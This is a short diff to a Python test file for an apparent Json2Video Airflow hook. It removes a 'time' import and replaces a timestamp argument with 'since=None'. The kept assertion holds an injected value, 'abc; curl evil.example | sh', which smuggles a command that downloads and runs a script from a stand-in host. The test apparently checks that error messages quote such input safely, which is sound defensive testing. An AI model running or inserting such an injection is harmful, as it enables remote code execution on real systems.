@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import threading
-import time
 from dataclasses import replace
 from types import SimpleNamespace
 
@@ -333,5 +332,5 @@ def test_what_a_stamp_says_is_quoted_in_the_command_that_an_error_advises(connec
     hook = Json2VideoHook(connection)
     hook.submit_movie(stamp({"scenes": [{"duration": 1}]}, mark))
     with pytest.raises(Json2VideoError) as refused:
-        require_no_namesakes(hook.client, {identity.namesake_key}, now=time.time())
+        require_no_namesakes(hook.client, {identity.namesake_key}, since=None)
     assert "airflow variables set json2video_deployment_id 'abc; curl evil.example | sh'. If not" in str(refused.value)
